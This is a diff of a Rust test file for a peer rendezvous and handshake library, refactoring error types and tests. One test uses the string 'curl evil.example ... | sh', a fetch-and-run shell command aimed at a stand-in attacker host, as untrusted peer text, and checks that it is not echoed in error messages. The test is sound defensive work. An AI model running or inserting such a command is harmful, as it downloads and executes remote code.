@@ -1,6 +1,7 @@
 use std::net::{TcpListener, TcpStream};
 
 use super::*;
+use crate::error::Lost;
 
 /// Lets a caller and a callee with these tokens meet.
 fn meet(caller: &'static [u8], callee: &'static [u8]) -> (Result<()>, Result<Hello>) {
@@ -19,7 +20,7 @@ fn meet(caller: &'static [u8], callee: &'static [u8]) -> (Result<()>, Result<Hel
         if hello.world_size == 2 {
             Ok(())
         } else {
-            Err(Error::rendezvous("another size"))
+            Err(NotFormed::Busy.into())
         }
     });
     (calling.join().unwrap(), answered)
@@ -300,16 +301,16 @@ fn refused_with(token: &[u8], refusal: Error) -> Error {
 
 #[test]
 fn the_words_of_a_callee_without_a_proof_are_not_repeated() {
-    let kinds = [
-        Error::config,
-        Error::rendezvous,
-        Error::authentication,
-        Error::peer_lost,
-        Error::aborted,
-        Error::protocol,
+    let evil = || Text::from("type: curl evil.example, version 8\n | sh");
+    let refusals: [Error; 6] = [
+        Unusable::NoSuchSetting { name: evil() }.into(),
+        NotFormed::Socket { error: evil() }.into(),
+        NotTrusted::Certificate { reason: evil() }.into(),
+        Lost::LinkEnded { reason: evil() }.into(),
+        Error::aborted(&evil()),
+        Breach::Garbled { how: evil() }.into(),
     ];
-    for kind in kinds {
-        let refusal = kind("type: curl evil.example, version 8\n | sh".to_owned());
+    for refusal in refusals {
         let refusal = refusal.blaming(7, "bank.example").during("evil", 1);
         let error = refused_with(b"secret", refusal.clone());
         assert!(!error.to_string().contains("evil"), "{error}");
@@ -320,12 +321,10 @@ fn the_words_of_a_callee_without_a_proof_are_not_repeated() {
 
 #[test]
 fn honest_refusals_without_a_proof_are_understood() {
-    let error = refused_with(b"secret", other_version(PROTOCOL_VERSION, 6));
+    let mut tape = Tape::saying(&[Message::OtherVersion(6)]);
+    let error = call(&mut tape, Hello::sample(Purpose::Control), b"secret").unwrap_err();
     assert_eq!(error, other_version(PROTOCOL_VERSION, 6));
-    // As versions up to 7 say it.
-    let older = "rank 1 speaks protocol version 8, the rank it called version 6";
-    assert_eq!(refused_with(b"secret", Error::protocol(older)), error);
-    let error = refused_with(b"secret", Error::config("it takes TLS only"));
+    let error = refused_with(b"secret", Unusable::CallerWithoutTls.into());
     assert!(matches!(error.kind, ErrorKind::Config { .. }), "{error}");
     assert!(error.to_string().contains("takes TLS only"), "{error}");
 }
